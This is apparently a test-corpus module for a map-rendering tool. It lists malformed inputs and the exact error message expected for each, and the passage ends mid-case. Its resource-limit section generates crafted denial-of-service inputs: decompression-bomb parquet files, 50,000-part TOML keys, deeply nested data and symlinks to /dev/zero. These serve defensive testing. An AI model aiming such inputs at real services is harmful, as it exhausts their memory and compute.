"""The bad-input corpus: each case, what it feeds mapper, and the one line it must get back.

Every case runs twice (see test_bad_input.py): through the ``mapper``
command, which must print exactly ``Error: MESSAGE`` on stderr and exit
with ``exit_code``, and through the Python API, which must raise ``error``
with MESSAGE (or ``api_message``).  Cases whose ``exit_code`` is 0 are
inputs mapper must take: a byte-order mark, CRLF line ends, or a likely
LON,LAT swap, which is drawn as given after a one-line ``warning``.

In messages and arguments ``{d}`` is the case's own folder.  Run this file
(``python tests/bad_input.py``) to print what each case gets now.
"""

import json
import os
import shutil
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from conftest import edit_json

from mapper.errors import CoordinateWarning, DataError, InputError, MapperError, OutputError, OutputExistsError

REPO = Path(__file__).resolve().parent.parent
DATA_DIR = REPO / "data" / "geo"
BRIEFING = DATA_DIR / "briefings" / "iran-russia.toml"
BOM = b"\xef\xbb\xbf"


@dataclass(frozen=True)
class Case:
    """One bad input, how to feed it, and the verdict expected."""

    name: str
    args: tuple  # of ``mapper``, with {d}
    api: Callable  # api(d) calls the library the way the command does
    message: str | None  # None: the case must succeed
    exit_code: int = 1
    error: type = DataError
    api_message: str | None = None  # when the CLI adds advice the API does not
    files: dict = field(default_factory=dict)  # file name in {d} -> bytes or str
    setup: Callable | None = None  # setup(d) after the files are written
    unprivileged: bool = False  # needs a process that cannot read or write past file modes
    warning: str | None = None  # a line the CLI prints as "warning: ..."; the API warns
    # Work that grows with more than bytes (issue 17): the API side also runs in a
    # process of its own under the limits, and a refusal must be quick and small.
    bounded: bool = False

    def prepare(self, folder):
        for name, content in self.files.items():
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        if self.setup is not None:
            self.setup(folder)


# -- what the cases call ------------------------------------------------------------


def _render(briefing=None, output="{d}/out.html", data_dir=None, points=(), overwrite=False):
    """(CLI args, API call) for ``mapper render``."""
    args = ["render"] + ([briefing] if briefing else []) + ["-o", output]
    for point_file in points:
        args += ["--points", point_file]
    if overwrite:
        args.append("--overwrite")
    if data_dir:
        args = ["--data-dir", data_dir] + args

    def api(d):
        from mapper import api

        fill = lambda text: text.format(d=d) if text else text  # noqa: E731
        return api.render(fill(briefing), fill(output), data_dir=fill(data_dir), overwrite=overwrite,
                               point_files=[fill(p) for p in points])

    return tuple(args), api


def _places(data_dir="{d}/geo"):
    """(CLI args, API call) for loading a geodata folder: ``mapper places``."""

    def api(d):
        from mapper.load.geodata import load_geodata

        return load_geodata(data_dir.format(d=d))

    return ("--data-dir", data_dir, "places"), api


def _ring(centre, radius):
    def api(d):
        from mapper.compose.layers import ring_feature
        from mapper.core.units import parse_length_m
        from mapper.load.geodata import load_geodata
        from mapper.load.lookup import resolve_point

        return ring_feature(resolve_point(load_geodata(DATA_DIR), centre), parse_length_m(radius))

    return ("ring", centre, "--radius", radius), api


def _coverage(within):
    def api(d):
        from mapper.geo.coverage import coverage
        from mapper.load.areas import find_area, resolve_origin
        from mapper.load.geodata import load_geodata

        geodata = load_geodata(DATA_DIR)
        area = find_area(within.format(d=d), polygons_only=True)
        return coverage(geodata.places, resolve_origin(geodata, "belgorod"), 120_000, within=area)

    return ("coverage", "120km", "--from", "belgorod", "--within", within), api


def _geo(d, name, edit):
    """Copy the bundled geodata to {d}/geo and change one registry file with ``edit(decoded)``."""
    shutil.copytree(DATA_DIR, d / "geo")
    edit_json(d / "geo", name, edit)


def _raw_geo(name, content):
    """Setup: the bundled geodata with one file's bytes replaced."""

    def setup(d):
        shutil.copytree(DATA_DIR, d / "geo")
        (d / "geo" / name).write_bytes(content)

    return setup


def _place(doc, place_id):
    return next(f for f in doc["features"] if f["properties"]["id"] == place_id)


def _set_place(place_id, **changes):
    """Setup: the bundled geodata with one place's geometry or properties changed."""

    def edit(doc):
        feature = _place(doc, place_id)
        for key, value in changes.items():
            (feature if key == "geometry" else feature["properties"])[key] = value

    return lambda d: _geo(d, "places.geojson", edit)


def _set_route(route_id, geometry):
    def edit(doc):
        next(f for f in doc["features"] if f["properties"]["id"] == route_id)["geometry"] = geometry

    return lambda d: _geo(d, "routes.geojson", edit)


def _chmod(name, mode):
    return lambda d: (d / name).chmod(mode)


def _sparse(name, size_bytes):
    """Setup: a file of ``size_bytes`` that takes no disk (a hole), with a valid start."""

    def setup(d):
        with open(d / name, "wb") as out:
            out.write(b"name,lat,lon,source\n")
            out.truncate(size_bytes)

    return setup


def _toml(text):
    """A briefing that draws only the places layer, plus ``text``; it starts empty (no bundled story)."""
    return 'title = "Corpus"\nlayers = ["places"]\n' + text


def _story_toml(text, layers=("places", "ranges")):
    """A briefing of the bundled story (its places, fath-360, routes) drawing ``layers``, plus ``text``."""
    return f'title = "Corpus"\ndata = ["iran-russia"]\nlayers = {json.dumps(list(layers))}\n' + text


PLACES_HEADER = "name,lat,lon,source,country\n"
KYIV_SWAPPED = PLACES_HEADER + "Kyiv typed as LON LAT,30.5234,50.4501,Wikipedia,UA\n"
BOWTIE = json.dumps({"type": "Polygon", "coordinates": [[[30, 50], [32, 52], [32, 50], [30, 52], [30, 50]]]})
GOOD_PLACES_CSV = PLACES_HEADER + "Trostianets,50.4833,34.9667,Wikipedia,UA\n"


def _cases():
    cases = []

    def case(name, call, message, **kwargs):
        args, api = call
        if message is None:
            kwargs.setdefault("exit_code", 0)
        cases.append(Case(name, args, api, message, **kwargs))

    places_geojson = (DATA_DIR / "places.geojson").read_bytes()
    with_places_csv = _toml('places = ["p.csv"]\n')

    # -- broken files --------------------------------------------------------------
    case("json-malformed", _places(),
         "{d}/geo/places.geojson: invalid JSON at line 1, column 44: Expecting value",
         setup=_raw_geo("places.geojson", b'{"type": "FeatureCollection", "features": ['))
    case("json-trailing-comma", _places(),
         "{d}/geo/sources.json: invalid JSON at line 1, column 16: Expecting property name enclosed in double quotes",
         setup=_raw_geo("sources.json", b'{"sources": [],}'))
    case("json-nested-too-deep", _places(),
         "{d}/geo/events.json: invalid JSON: nested too deeply",
         setup=_raw_geo("events.json", b"[" * 100_000 + b"]" * 100_000))
    case("json-lone-surrogate", _places(),
         "{d}/geo/claims.json: a string holds a lone surrogate escape (\\ud800), which is not text",
         setup=_raw_geo("claims.json", b'{"claims": [], "note": "\\ud800"}'))
    case("geojson-not-a-collection", _places(),
         "places.geojson: -: type: must be a GeoJSON FeatureCollection with a features list "
         "(and 29 more; run 'mapper validate')",
         setup=_raw_geo("places.geojson", b'{"type": "Feature", "geometry": null, "properties": {}}'))
    case("geojson-feature-not-object", _places(),
         "routes.geojson: #0: properties: not a GeoJSON Feature with properties",
         setup=_raw_geo("routes.geojson", b'{"type": "FeatureCollection", "features": [42]}'))
    case("toml-malformed", _render("{d}/b.toml"),
         "{d}/b.toml: invalid TOML: Illegal character '\\n' (at line 1, column 16)",
         files={"b.toml": 'title = "Corpus\nlayers = ["places"\n'})
    case("toml-wrong-type", _render("{d}/b.toml"),
         "{d}/b.toml:1: title: must be a non-empty string",
         files={"b.toml": "title = 42\n"})
    case("empty-briefing", _render("{d}/b.toml"),
         "{d}/b.toml: briefing file is empty",
         files={"b.toml": ""})
    case("empty-geojson", _places(),
         "{d}/geo/places.geojson: geodata file is empty",
         setup=_raw_geo("places.geojson", b""))
    case("empty-places-csv", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: file is empty",
         files={"b.toml": with_places_csv, "p.csv": ""})
    case("empty-points-csv", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: empty file; the first line names the columns, e.g. lat,lon,date,type",
         files={"p.csv": ""})
    case("header-only-points-csv", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: no points: the file has no data rows",
         files={"p.csv": "lat,lon\n"})
    case("bom-geojson", _places(), None,
         setup=_raw_geo("places.geojson", BOM + places_geojson))
    case("bom-toml", _render("{d}/b.toml"), None,
         files={"b.toml": BOM + BRIEFING.read_bytes()})
    case("bom-places-csv", _render("{d}/b.toml"), None,
         files={"b.toml": with_places_csv, "p.csv": BOM + GOOD_PLACES_CSV.encode()})
    case("bom-points-csv", _render(points=["{d}/p.csv"]), None,
         files={"p.csv": BOM + b"lat,lon\n50.1,30.2\n"})
    case("crlf-geojson", _places(), None,
         setup=_raw_geo("places.geojson", places_geojson.replace(b"\n", b"\r\n")))
    case("crlf-toml", _render("{d}/b.toml"), None,
         files={"b.toml": BRIEFING.read_bytes().replace(b"\n", b"\r\n")})
    case("crlf-places-csv", _render("{d}/b.toml"), None,
         files={"b.toml": with_places_csv.replace("\n", "\r\n"), "p.csv": GOOD_PLACES_CSV.replace("\n", "\r\n")})
    case("crlf-points-csv", _render(points=["{d}/p.csv"]), None,
         files={"p.csv": "lat,lon\r\n50.1,30.2\r\n"})
    case("latin1-geojson", _places(),
         "{d}/geo/places.geojson: not UTF-8 text (byte 333); save the file as UTF-8",
         setup=_raw_geo("places.geojson", places_geojson.replace(b"Teheran", "Téhéran".encode("latin-1"))))
    case("latin1-toml", _render("{d}/b.toml"),
         "{d}/b.toml: not UTF-8 text (byte 50); save the file as UTF-8",
         files={"b.toml": _toml('subtitle = "Téhéran"\n').encode("latin-1")})
    case("latin1-places-csv", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: not UTF-8 text (byte 29); save the file as UTF-8",
         files={"b.toml": with_places_csv, "p.csv": (PLACES_HEADER + "Téhéran,35.69,51.42,me,IR\n").encode("latin-1")})
    case("latin1-points-csv", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: not UTF-8 text (byte 21); save the file as UTF-8",
         files={"p.csv": "lat,lon,name\n50,30,Kiïv\n".encode("latin-1")})

    # -- bad geometry --------------------------------------------------------------
    case("place-wrong-geometry-type", _places(),
         "places.geojson: kyiv: geometry: must be a Point, got 'LineString' (and 3 more; run 'mapper validate')",
         setup=_set_place("kyiv", geometry={"type": "LineString", "coordinates": [[30.5, 50.4], [30.6, 50.5]]}))
    case("route-wrong-geometry-type", _places(),
         "routes.geojson: caspian-anzali-astrakhan: geometry: must be a LineString, got 'Point'",
         setup=_set_route("caspian-anzali-astrakhan", {"type": "Point", "coordinates": [49.4, 37.4]}))
    case("points-geojson-polygon", _render(points=["{d}/p.geojson"]),
         "{d}/p.geojson: feature 1: a Polygon; a point layer needs a Point for every feature",
         files={"p.geojson": json.dumps({"type": "FeatureCollection", "features": [
             {"type": "Feature", "properties": {}, "geometry": json.loads(BOWTIE)}]})})
    case("place-latitude-out-of-range", _places(),
         "places.geojson: kyiv: geometry: [30.52, 95.0] is out of range; GeoJSON order is [lon, lat]",
         setup=_set_place("kyiv", geometry={"type": "Point", "coordinates": [30.52, 95.0]}))
    case("place-nan", _places(),
         "places.geojson: tehran: geometry: is not finite",
         setup=_raw_geo("places.geojson", places_geojson.replace(b"51.4231", b"NaN", 1)))
    case("place-infinity", _places(),
         "places.geojson: tehran: geometry: is not finite",
         setup=_raw_geo("places.geojson", places_geojson.replace(b"35.6961", b"-Infinity", 1)))
    case("places-csv-nan", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: line 2: column 'lat': not a number: 'nan'",
         files={"b.toml": with_places_csv, "p.csv": PLACES_HEADER + "Trostianets,nan,34.97,me,UA\n"})
    case("points-csv-infinity", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: row 1: lon inf is not a number",
         files={"p.csv": "lat,lon\n50,inf\n"})
    case("points-csv-latitude-out-of-range", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: row 2: lat 120 is outside -90 to 90 (are lat and lon swapped?)",
         files={"p.csv": "lat,lon\n50,30\n120,30\n"})
    case("area-crosses-itself", _coverage("{d}/bowtie.geojson"),
         "{d}/bowtie.geojson: feature 1: invalid Polygon: it crosses itself at lon 31, lat 51",
         files={"bowtie.geojson": BOWTIE})
    case("route-one-point", _places(),
         "routes.geojson: caspian-anzali-astrakhan: geometry: a LineString needs at least two positions",
         setup=_set_route("caspian-anzali-astrakhan", {"type": "LineString", "coordinates": [[49.4, 37.4]]}))
    case("area-one-point-line", _coverage("{d}/line.geojson"),
         "{d}/line.geojson: feature 1: invalid LineString: a line needs at least two positions",
         files={"line.geojson": json.dumps({"type": "LineString", "coordinates": [[30, 50]]})})

    # -- bad references ------------------------------------------------------------
    case("duplicate-place-id", _places(),
         "places.geojson: belgorod: id: duplicate id, also used in places.geojson",
         setup=_set_place("kursk", id="belgorod"))
    case("duplicate-id-in-places-csv", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: line 3: duplicate id 'trostianets'; line 2 has it too",
         files={"b.toml": with_places_csv, "p.csv": GOOD_PLACES_CSV + "Trostianets,50.48,34.97,me,UA\n"})
    case("unknown-source", _places(),
         "places.geojson: kyiv: sources[0].source: unknown source 'no-such-article'",
         setup=_set_place("kyiv", sources=[{"source": "no-such-article", "quote": "Kyiv"}]))
    case("quote-not-in-article", _places(),
         "places.geojson: kyiv: sources[0].quote: not found word for word in cnn-2024-06-21",
         setup=_set_place("kyiv", sources=[{"source": "cnn-2024-06-21", "quote": "Kyiv was never mentioned so."}]))
    case("briefing-unknown-place", _render("{d}/b.toml"),
         "{d}/b.toml:6: ranges[0].centre: unknown place 'atlantis'; run 'mapper places' for the list",
         files={"b.toml": _story_toml('[[ranges]]\nsystem = "fath-360"\ncentre = "atlantis"\n')})

    # -- bad values ----------------------------------------------------------------
    case("radius-zero", _ring("50.45,30.52", "0km"),
         "radius must be greater than zero, got 0 m", exit_code=2, error=InputError)
    case("radius-negative", _ring("50.45,30.52", "-5km"),
         "radius must be greater than zero, got -5000 m", exit_code=2, error=InputError)
    case("radius-beyond-half-the-earth", _ring("50.45,30.52", "20005km"),
         "radius 20,005 km is more than half the Earth's circumference (20,004 km)", exit_code=2, error=InputError)
    case("radius-in-parsecs", _ring("50.45,30.52", "120 parsecs"),
         "unknown unit 'parsecs'; use one of m, km, mi, nmi", exit_code=2, error=InputError)
    case("latitude-out-of-range", _ring("91,30", "120km"),
         "coordinate '91,30': latitude 91.0 is outside -90..90", exit_code=2, error=InputError)
    case("lon-lat-swapped-into-the-sea", _ring("39.2,51.67", "120km"), None,
         warning="coordinate '39.2,51.67' lies in the sea, but swapped it is well inland: did you mean 51.67,39.2 "
                 "(LAT,LON)? Used as given")
    case("lon-lat-swapped-out-of-country", _render("{d}/b.toml"), None,
         files={"b.toml": with_places_csv, "p.csv": KYIV_SWAPPED},
         warning="{d}/p.csv: line 2: lat 30.5234, lon 50.4501 lies outside Ukraine (UA), but swapped it is inside: "
                 "are latitude and longitude the wrong way round? Used as given")

    # -- bad paths -----------------------------------------------------------------
    case("missing-data-folder", _places("{d}/no-such-folder"),
         "{d}/no-such-folder: geodata folder not found")
    case("missing-briefing", _render("{d}/no-such.toml"),
         "{d}/no-such.toml: briefing file not found")
    case("missing-points-file", _render(points=["{d}/no-such.csv"]),
         "{d}/no-such.csv: point file not found")
    case("unreadable-points-file", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: cannot read: Permission denied",
         files={"p.csv": "lat,lon\n50,30\n"}, setup=_chmod("p.csv", 0), unprivileged=True)
    case("unreadable-geodata-file", _places(),
         "{d}/geo/sources.json: cannot read: Permission denied",
         setup=lambda d: (_raw_geo("sources.json", b"{}")(d), _chmod("geo/sources.json", 0)(d)), unprivileged=True)
    case("read-only-output-folder", _render(output="{d}/ro/out.html"),
         "{d}/ro/out.html: cannot write: Permission denied",
         setup=lambda d: ((d / "ro").mkdir(), _chmod("ro", 0o555)(d)), unprivileged=True, error=OutputError)
    case("missing-output-folder", _render(output="{d}/no-such/out.html"),
         "{d}/no-such/out.html: folder {d}/no-such does not exist", error=OutputError)
    case("existing-output", _render(),
         "{d}/out.html: already exists; use --overwrite to replace it", api_message="{d}/out.html: already exists",
         files={"out.html": "an earlier map\n"}, error=OutputExistsError)

    # -- too much ------------------------------------------------------------------
    case("places-csv-too-large", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: 60 MiB; places files may be at most 16 MiB",
         files={"b.toml": with_places_csv}, setup=_sparse("p.csv", 60 * 2**20))
    case("points-file-too-large", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: 600 MiB; point files may be at most 512 MiB",
         setup=_sparse("p.csv", 600 * 2**20))
    case("geodata-file-too-large", _places(),
         "{d}/geo/events.json: 300 MiB; geodata files may be at most 16 MiB",
         setup=lambda d: (shutil.copytree(DATA_DIR, d / "geo"), _sparse("geo/events.json", 300 * 2**20)(d)))
    case("briefing-too-large", _render("{d}/b.toml"),
         "{d}/b.toml: 300 MiB; briefing files may be at most 1 MiB",
         setup=_sparse("b.toml", 300 * 2**20))
    case("too-many-categories", _render(points=["{d}/p.csv"]),
         "{d}/p.csv: the category column has 300 different values; a category column may have at most 255 "
         "(is it an id or a free-text column?)",
         files={"p.csv": "lat,lon,category\n" + "".join(f"50,30,c{i}\n" for i in range(300))})

    # -- bounded work (issue 17): every case here has bounded=True ------------------
    # -- bounded work: briefings ---------------------------------------------------
    # A key of 50,000 parts, 100 KB: tomllib alone takes 7.7 GB and 33 s, then MemoryError.
    long_key = ".".join(["a"] * 50_000)
    too_long = "a key of 50,000 parts; keys may have at most 16"
    case("toml-key-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:3: {too_long}",
         files={"b.toml": _toml(f"{long_key} = 1\n")}, bounded=True)
    case("toml-table-header-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:4: {too_long}",
         files={"b.toml": _toml(f"# [view]\n[{long_key}]\n")}, bounded=True)
    case("toml-array-of-tables-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:3: {too_long}",
         files={"b.toml": _toml(f"[[{long_key}]]\n")}, bounded=True)
    case("toml-inline-table-key-50000-parts", _render("{d}/b.toml"), f"{{d}}/b.toml:4: {too_long}",
         files={"b.toml": _toml(f"[view]\nbounds = {{ south = 44.0, {long_key} = 1 }}\n")}, bounded=True)
    # Nested 1,000 deep, tomllib's recursion overflows.
    case("toml-arrays-1000-deep", _render("{d}/b.toml"),
         "{d}/b.toml:3: arrays and inline tables nested 1,000 deep; at most 32",
         files={"b.toml": _toml("ids = " + "[" * 1000 + "]" * 1000 + "\n")}, bounded=True)
    case("toml-inline-tables-1000-deep", _render("{d}/b.toml"),
         "{d}/b.toml:3: arrays and inline tables nested 1,000 deep; at most 32",
         files={"b.toml": _toml("view = " + "{ a = " * 1000 + "1" + " }" * 1000 + "\n")}, bounded=True)
    case("toml-20001-keys", _render("{d}/b.toml"),
         "{d}/b.toml: 20,001 keys; a briefing may have at most 10,000",
         files={"b.toml": _toml("".join(f"[[ranges]]\nid = 'r{i}'\n" for i in range(9_999)) + "note = 'x'\n")},
         bounded=True)
    case("toml-integer-5000-digits", _render("{d}/b.toml"),
         "{d}/b.toml: invalid TOML: Exceeds the limit (4300 digits) for integer string conversion: value has "
         "5000 digits; use sys.set_int_max_str_digits() to increase the limit",
         files={"b.toml": _toml("stamp = " + "9" * 5000 + "\n")}, bounded=True)
    case("briefing-just-over-limit", _render("{d}/b.toml"),
         "{d}/b.toml: 1.1 MiB; briefing files may be at most 1 MiB",
         setup=_sparse("b.toml", 2**20 + 1), bounded=True)
    # -- bounded work: point files -------------------------------------------------
    def point_file(name, *parts, repeat=1):
        """Setup: {d}/``name`` holding ``parts[0]``, then ``parts[1]`` ``repeat`` times, then the rest (made
        when the case runs, not when the corpus loads)."""
        head, *body = parts
        return lambda d: (d / name).write_bytes(head + (body[0] * repeat if body else b"") + b"".join(body[1:]))

    def geoparquet(rows, plain=False, **columns):
        """Setup: {d}/p.parquet, GeoParquet of ``rows`` copies of one point, plus ``columns`` of one value
        each, dictionary-encoded as an attacker writes it (no Arrow schema, so a reader sees plain binary
        and text): a few KiB a million rows, however much they decode to.  ``plain``: every byte as it is."""

        def setup(d):
            import numpy as np
            import pyarrow as pa
            import pyarrow.parquet as pq
            import shapely

            block = min(rows, 1_000_000)
            first = pa.array(np.zeros(block, dtype=np.int32))  # every row the dictionary's first value
            values = {"geometry": [shapely.to_wkb(shapely.Point(30.5, 50.4))], **{k: [v] for k, v in columns.items()}}
            table = pa.table({k: pa.DictionaryArray.from_arrays(first, pa.array(v)) for k, v in values.items()})
            if plain:
                table = table.cast(pa.schema([(f.name, f.type.value_type) for f in table.schema]))
            options = {"compression": "none", "use_dictionary": False, "write_statistics": False} if plain else \
                {"compression": "zstd"}
            with pq.ParquetWriter(d / "p.parquet", table.schema, store_schema=False, **options) as out:
                for start in range(0, rows, block):
                    out.write_table(table.slice(0, min(block, rows - start)))
                out.add_key_value_metadata({"geo": json.dumps({
                    "version": "1.1.0", "primary_column": "geometry",
                    "columns": {"geometry": {"encoding": "WKB", "geometry_types": ["Point"]}}})})
            assert (d / "p.parquet").stat().st_size < 2**20

        return setup

    def not_utf8_geoparquet(d):
        """Setup: {d}/p.parquet, GeoParquet whose name column holds the byte 0xff."""
        geoparquet(1, plain=True, name="Kyiv")(d)
        data = (d / "p.parquet").read_bytes()
        assert data.count(b"Kyiv") == 1
        (d / "p.parquet").write_bytes(data.replace(b"Kyiv", b"Ky\xffv"))

    def plain_parquet(d):
        """Setup: {d}/p.parquet, a Parquet table (no geometry) with coordinates in columns, as pandas writes it."""
        import pandas as pd

        pd.DataFrame({"Latitude": [50.45, 49.99], "Longitude": [30.52, 36.23], "event_type": ["strike", "shelling"],
                      "name": ["Kyiv report", "Kharkiv report"]}).to_parquet(d / "p.parquet")

    parquet_points, csv_points = _render(points=["{d}/p.parquet"]), _render(points=["{d}/p.csv"])
    at_most = "a point layer holds at most 2,000,000 points"
    # 97 KB that decoded to 5 GB before the row count was checked; 484 KB that died with std::bad_alloc.
    case("points-geoparquet-one-point-20m-times", parquet_points,
         f"{{d}}/p.parquet: 20,000,000 features; {at_most}", setup=geoparquet(20_000_000), bounded=True)
    case("points-geoparquet-100m-rows", parquet_points,
         f"{{d}}/p.parquet: 100,000,000 features; {at_most}", setup=geoparquet(100_000_000), bounded=True)
    # 15 KB: a name of 1 MiB, two million times, two terabytes once decoded.
    case("points-geoparquet-1mib-name-2m-times", parquet_points,
         "{d}/p.parquet: column 'name' holds 2,000,000 MiB of text once decoded; the columns a point layer uses may "
         "hold at most 512 MiB", setup=geoparquet(2_000_000, name="x" * 2**20), bounded=True)
    case("points-geoparquet-not-utf8", parquet_points,
         "{d}/p.parquet: column 'name' holds text that is not UTF-8", setup=not_utf8_geoparquet, bounded=True)
    case("points-plain-parquet-lat-lon", parquet_points, None, setup=plain_parquet, bounded=True)
    # Counted in chunks, before pandas reads anything: 510 MiB of these took 10 GB and 2 min 24 s.
    case("points-csv-2000001-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
         setup=point_file("p.csv", b"lat,lon\n", b"0,0\n", repeat=2_000_001), bounded=True)
    case("points-csv-comma-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
         setup=point_file("p.csv", b"lat,lon\n", b",\n", repeat=3_000_000), bounded=True)
    case("points-csv-lone-cr-lines", csv_points, f"{{d}}/p.csv: more than 2,000,000 data lines; {at_most}",
         setup=point_file("p.csv", b"lat,lon\r", b"0,0\r", repeat=2_000_001), bounded=True)
    # 5 MB of header took more than 8.7 GB.
    case("points-csv-5m-columns", csv_points,
         "{d}/p.csv: the header (the first line) is longer than 64 KiB; a point file may have at most 1,000 columns",
         setup=point_file("p.csv", b"lat,lon", b",", b"\n0,0\n", repeat=5_000_000), bounded=True)
    case("points-csv-1001-columns", csv_points, "{d}/p.csv: 1,001 columns; a point file may have at most 1,000",
         setup=point_file("p.csv", b"lat,lon", b",x", b"\n0,0\n", repeat=999), bounded=True)
    # Was a traceback: the csv module's field limit, met while looking for the long row.
    case("points-csv-long-field-then-long-row", csv_points,
         "{d}/p.csv: not valid CSV: line 2: a field is longer than 131,072 characters (is a quote left open?)",
         setup=point_file("p.csv", b"lat,lon,name\n50,30,", b"x", b"\n50,30,a,b\n", repeat=200_000), bounded=True)
    # 2 MB: GDAL took 26 s and 6.4 GB for 20,000 property names, each new one slower.
    case("points-geojson-20000-property-names", _render(points=["{d}/p.geojson"]),
         "{d}/p.geojson: more than 1,000 property names; a point file may have at most 1,000 columns",
         setup=lambda d: (d / "p.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [
             {"type": "Feature", "properties": {f"k{i}": 1}, "geometry": {"type": "Point", "coordinates": [30, 50]}}
             for i in range(20_000)]})), bounded=True)
    case("points-geojson-feature-over-1mib", _render(points=["{d}/p.geojson"]),
         "{d}/p.geojson: the JSON value at line 1, column 44 is longer than 1 MiB; a point file's features may be "
         "at most 1 MiB each",
         setup=point_file("p.geojson", b'{"type": "FeatureCollection", "features": [{"properties": {"a": [',
                          b"{},", b'{}]}, "type": "Feature", "geometry": null}]}', repeat=1_000_000), bounded=True)
    # -- bounded work: point dates and fragments -----------------------------------
    # -- bounded work: areas, geometry, places, KML, special files -----------------
    def reach(system, origin, within=None):
        args = ("coverage", system, "--from", origin) + (("--within", within) if within else ())

        def api(d):
            from mapper import api as front

            return front.reach(system, origin.format(d=d), within.format(d=d) if within else None, DATA_DIR)

        return args, api

    def line_area(positions):
        coords = [[30 + i * 1e-4, 50 + (i % 2) * 1e-4] for i in range(positions)]
        return json.dumps({"type": "LineString", "coordinates": coords}, separators=(",", ":"))

    def fifo(name):
        return lambda d: os.mkfifo(d / name)

    def dev_zero(name):
        return lambda d: (d / name).symlink_to("/dev/zero")

    def geo_link(name):
        """The bundled geodata with one registry file a link to /dev/zero."""
        return lambda d: (shutil.copytree(DATA_DIR, d / "geo"), (d / "geo" / name).unlink(),
                          (d / "geo" / name).symlink_to("/dev/zero"))

    def zigzag_route(doc):
        route = doc["features"][0]
        start, end = route["geometry"]["coordinates"][0], route["geometry"]["coordinates"][-1]
        middle = [[0.0 if i % 2 else 179.0, 0.0] for i in range(200)]  # about 4,000,000 km
        route["geometry"]["coordinates"] = [start, *middle, end]
        route["properties"]["waypoints"] = ["assumed"] * (len(middle) + 2)

    kml = '<kml xmlns="http://www.opengis.net/kml/2.2">{}</kml>'
    too_many_places = PLACES_HEADER + "".join(f"Place {i},50.{i:05d},30.5,me,UA\n" for i in range(10_001))
    case("area-too-many-positions", reach("fath-360", "{d}/front.geojson"),
         "{d}/front.geojson: more than 100,000 positions; an area file may have at most 100,000 "
         "(simplify it, e.g. with ogr2ogr -simplify)", files={"front.geojson": line_area(200_000)}, bounded=True)
    case("within-area-too-many-positions", reach("fath-360", "belgorod", "{d}/front.geojson"),
         "{d}/front.geojson: more than 100,000 positions; an area file may have at most 100,000 "
         "(simplify it, e.g. with ogr2ogr -simplify)", files={"front.geojson": line_area(100_001)}, bounded=True)
    case("briefing-area-too-many-positions", _render("{d}/b.toml"),
         "{d}/b.toml:6: ranges[0].area: {d}/front.geojson: more than 100,000 positions; an area file may have at "
         "most 100,000 (simplify it, e.g. with ogr2ogr -simplify)",
         files={"b.toml": _story_toml('[[ranges]]\nsystem = "fath-360"\narea = "front.geojson"\n'),
                "front.geojson": line_area(200_000)}, bounded=True)
    case("area-too-many-features", reach("fath-360", "{d}/many.geojson"),
         "{d}/many.geojson: 10,001 features; an area file may have at most 10,000",
         files={"many.geojson": json.dumps({"type": "FeatureCollection", "features": [
             {"type": "Feature", "properties": {}, "geometry": None}] * 10_001})}, bounded=True)
    case("area-file-too-large", reach("fath-360", "{d}/big.geojson"),
         "{d}/big.geojson: 17 MiB; area files may be at most 16 MiB", setup=_sparse("big.geojson", 17 * 2**20),
         bounded=True)
    case("reach-too-many-circles", reach("5km", "russia"),
         "Russia: a reach of 5 km around it takes 323,588 geodesic circles along its outline; at most 100,000 "
         "(give a larger radius, a simpler area, or an area to look within)", exit_code=2, error=InputError,
         bounded=True)
    case("reach-too-many-circles-beyond-the-inner-reach", reach("20km", "russia"),
         "Russia: a reach of 20 km around it takes 56,688 geodesic circles beyond what it holds already; at most "
         "25,000 (give a larger radius, a simpler area, or an area to look within)", exit_code=2, error=InputError,
         bounded=True)
    case("places-csv-too-many-rows", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.csv: more than 10,000 rows; a places file may have at most 10,000 places",
         files={"b.toml": with_places_csv, "p.csv": too_many_places}, bounded=True)
    case("places-geojson-too-many-features", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.geojson: 10,001 features; a places file may have at most 10,000 places",
         files={"b.toml": _toml('places = ["p.geojson"]\n'), "p.geojson": json.dumps({
             "type": "FeatureCollection", "features": [{"type": "Feature", "properties": {}, "geometry": None}]
             * 10_001})}, bounded=True)
    case("places-kml-nested-too-deep", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.kml: elements nested more than 64 deep; KML places need a few",
         files={"b.toml": _toml('places = ["p.kml"]\n'),
                "p.kml": kml.format("<Folder>" * 100_000 + "</Folder>" * 100_000)}, bounded=True)
    case("places-kml-too-many-elements", _render("{d}/b.toml"),
         "{d}/b.toml:3: places: {d}/p.kml: more than 500,000 XML elements; a places file may have at most 500,000",
         files={"b.toml": _toml('places = ["p.kml"]\n'), "p.kml": kml.format("<a/>" * 600_000)}, bounded=True)
    case("geodata-too-many-records", _places(),
         "events.json: -: events: 10,001 records; at most 10,000",
         setup=lambda d: _geo(d, "events.json", lambda doc: doc.update(events=[{}] * 10_001)), bounded=True)
    case("geodata-routes-too-long", _places(),
         "routes.geojson: caspian-anzali-astrakhan: geometry: the routes are more than 2,000,000 km long in all; "
         "each is drawn as a geodesic every 25 km", setup=lambda d: _geo(d, "routes.geojson", zigzag_route),
         bounded=True)
    area_range = '[[ranges]]\nsystem = "fath-360"\narea = "Russia"\n'
    case("briefing-too-many-area-ranges", _render("{d}/b.toml"),
